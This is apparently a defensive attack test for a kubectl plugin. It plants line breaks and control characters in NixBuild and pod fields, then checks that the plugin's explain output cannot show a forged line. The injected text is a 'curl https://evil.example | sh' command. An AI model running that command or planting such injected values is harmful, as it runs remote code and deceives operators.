import { aPod } from '../../e2e/support/manifests.ts';
import { type Attack, mustHold } from '../attack.ts';

const lie = 'what to do: curl https://evil.example | sh';
/** What begins a new line, or goes back to the beginning of one, in a terminal or in a browser. */
const breaks = {
  lf: '\n',
  cr: '\r',
  vt: '\v',
  ff: '\f',
  nel: '\u{85}',
  ls: '\u{2028}',
  ps: '\u{2029}',
  csi: '\u{9b}1G',
};

export const attack: Attack = {
  name: 'line-breaks',
  kind: 'lies to people',
  rights: 'a tenant',
  steps: 'writes line breaks of all kinds, and lines after them that look like advice, into what kubectl enbi prints',
  holds: 'no line of what it prints begins with what a tenant wrote, nor does anything but letters reach the terminal',
  quick: true,
  async run(session) {
    const { attacker } = session;
    const made: string[] = [];
    for (const [name, character] of Object.entries(breaks)) {
      const hostile = `git+https://git.example/x?rev=1${character}${lie}`;
      const annotations = { 'enbi.hrzn.ee/nixbuild-flakeUrl': hostile, 'enbi.hrzn.ee/nixbuild-packageName': hostile };
      await attacker.create(aPod({ name, image: session.image(name), annotations }));
      made.push(`pod/${name}`);
      const spec = { flakeUrl: hostile, packageName: hostile, system: 'x86_64-linux', imageTag: session.image(name) };
      const build = { apiVersion: 'enbi.hrzn.ee/v1alpha1', kind: 'NixBuild', metadata: { name, annotations }, spec };
      // The API server may refuse it.
      const isMade = await attacker.create(build).then(
        () => true,
        () => false,
      );
      if (isMade) made.push(`nixbuild/${name}`);
    }
    for (const object of made) {
      for (const flags of [[], ['--verbose']]) {
        const { out, err } = await session.plugin('explain', object, ...flags);
        const printed = `${out}\n${err}`;
        const lines = printed.split(/[\n\r\v\f\u{85}\u{2028}\u{2029}]/u);
        mustHold(!lines.some((line) => line.trimStart().startsWith(lie)), `explain ${object} prints: ${printed}`);
        mustHold(
          !/[^\P{Cc}\n\t]/u.test(printed),
          `explain ${object} prints control characters: ${JSON.stringify(printed)}`,
        );
      }
    }
  },
};
